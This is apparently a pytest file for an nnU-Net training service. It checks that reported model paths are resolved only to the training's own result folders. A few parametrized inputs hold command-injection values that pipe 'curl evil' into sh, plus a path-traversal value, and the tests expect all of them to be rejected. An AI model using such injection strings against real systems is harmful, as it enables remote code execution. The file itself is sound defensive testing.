"""The paths of models in the status lead to the training's own models, whatever its image reports."""

from typing import Any

import pytest

from nnunet_api.contract import TerminationReport
from nnunet_api.evaluation_facts import ConfigurationScores, EvaluationFacts, SelectionFacts
from nnunet_api.results import Results
from tests.support.made_trainings import training
from tests.support.made_worlds import COMPLETE, EVALUATE, decide, ended, job, planned, verified, world

RUN = "clinic/hippo-0a1b2c3d"
OWN = f"{RUN}/Dataset004_Hippocampus/nnUNetTrainer__{{}}__{{}}"
PLANS = "nnUNetPlans"
SEVERAL = {"configurations": ["2d", "3d_fullres"]}


def results(spec: dict[str, Any], facts: EvaluationFacts, plans_known: bool) -> Results:
    """Return what the status says after an evaluation."""
    of = training(folds=[0], **spec)
    over = job(of, EVALUATE, conditions=[COMPLETE])
    report = TerminationReport(message="evaluated", evaluation=facts)
    before = planned(of) if plans_known else ()
    found = decide(world(of, *before, *verified(of), over, ended(over, 0, report))).status.results
    assert found is not None
    return found


@pytest.mark.parametrize(
    ("told", "plans_known", "expected"),
    [
        (None, True, OWN.format(PLANS, "3d_fullres")),
        ("clinic/other-12345678/Dataset004_Hippocampus/T__P__2d", True, OWN.format(PLANS, "3d_fullres")),
        (None, False, None),
        (OWN.format("nnUNetResEncUNetLPlans", "3d_fullres"), False, OWN.format("nnUNetResEncUNetLPlans", "3d_fullres")),
        ("/nnunet/results/" + OWN.format("P", "3d_fullres"), False, OWN.format("P", "3d_fullres")),
        (OWN.format("P", "2d"), False, None),
        (OWN.format("P; curl evil|sh #", "3d_fullres"), False, None),
        (OWN.format("P/../../x", "3d_fullres"), False, None),
        (f"{RUN}/Dataset004_X; curl evil|sh #/nnUNetTrainer__P__3d_fullres", False, None),
        ("clinic/other-12345678/Dataset004_Hippocampus/nnUNetTrainer__P__3d_fullres", False, None),
    ],
)
def test_the_model_of_one_configuration(told: str | None, plans_known: bool, expected: str | None) -> None:
    assert results({}, EvaluationFacts(model_path=told), plans_known).model_path == expected


def test_models_in_a_sub_path_and_of_replicates() -> None:
    spec = {"replicates": 2, "storage": {"results": {"subPath": "models/"}}}
    inner = OWN.format(PLANS, "3d_fullres").replace(RUN, f"models/{RUN}/replicate-1")
    assert results(spec, EvaluationFacts(), plans_known=True).model_path == inner


@pytest.mark.parametrize(
    ("chosen", "expected"),
    [
        (["2d"], OWN.format(PLANS, "2d")),
        (["2d", "3d_fullres"], None),
        (None, None),
    ],
)
def test_the_models_of_several(chosen: list[str] | None, expected: str | None) -> None:
    """The paths are there also where the report had no room for any."""
    each = [ConfigurationScores(configuration=name, model_path=told) for name, told in (("2d", None), ("x", "x"))]
    selection = SelectionFacts(chosen=chosen, mean_validation_dice=0.8, candidates=3) if chosen else None
    facts = EvaluationFacts(configurations=each, selection=selection, model_path="clinic/other-12345678/m")
    found = results({**SEVERAL, "selection": {}}, facts, plans_known=True)
    assert found.model_path == expected
    assert found.configurations is not None
    assert [one.model_path for one in found.configurations] == [OWN.format(PLANS, "2d"), None]
